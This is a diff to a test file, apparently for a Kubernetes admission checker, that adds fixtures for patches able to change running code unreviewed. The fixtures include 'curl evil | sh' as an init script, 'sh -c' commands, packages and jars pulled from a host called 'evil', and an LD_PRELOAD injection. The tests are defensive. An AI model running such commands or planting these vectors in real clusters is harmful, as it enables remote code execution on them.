@@ -143,6 +143,16 @@ describe('changesCodeUnjudged', () => {
     { name: 'containers by another name', spec: { leaderWorkerTemplate: { workerTemplate: { spec: image } } } },
     { name: 'an image by itself', spec: { image: 'evil' } },
     { name: 'a disk of a machine', spec: { template: { spec: { volumes: [{ containerDisk: { image: 'evil' } }] } } } },
+    { name: 'what a job of Ray begins with', spec: { entrypoint: 'sh -c x' } },
+    { name: 'where Ray takes its packages from', spec: { runtimeEnvYAML: 'pip: [evil]' } },
+    { name: 'the program of a job of Flink', spec: { job: { jarURI: 'https://evil/x.jar' } } },
+    { name: 'the program of a job of Spark', spec: { mainApplicationFile: 'https://evil/x.py' } },
+    { name: 'a class of it', spec: { mainClass: 'evil.Main' } },
+    { name: 'a command', spec: { command: ['sh'], args: ['-c', 'x'] } },
+    { name: 'arguments by another name', spec: { driver: { javaOptions: '', extraArgs: ['--exec', 'x'] } } },
+    { name: 'a script', spec: { initScript: 'curl evil | sh' } },
+    { name: 'variables', spec: { env: [{ name: 'LD_PRELOAD', value: '/x' }] } },
+    { name: 'where an image lies', spec: { imageRepository: 'evil' } },
     { name: 'both a known place and another', spec: { template: { spec: image }, driver: { image: 'evil' } } },
   ])('$name may change behind what admission sees', ({ spec }) => {
     expect(unjudged(THING, MERGE, { spec })).toBe(true)
@@ -154,6 +164,8 @@ describe('changesCodeUnjudged', () => {
   test.each([
     { name: 'containers where Deployments have them', line: THING, body: inPod(image) },
     { name: 'a pod template', line: THING, body: { spec: { podTemplate: { spec: image } } } },
+    { name: 'the name of a stage', line: THING, body: { spec: { environment: 'production' } } },
+    { name: 'a schedule', line: THING, body: { spec: { schedule: '* * * * *', suspend: true } } },
     { name: 'a scale', line: THING, body: { spec: { replicas: 2 } } },
     { name: "Kubernetes' own kinds", line: WEB, body: { spec: { replicatedJobs: [image] } } },
     { name: 'a whole object', line: THING.replace('PATCH', 'PUT'), body: { spec: { image: 'evil' } } },
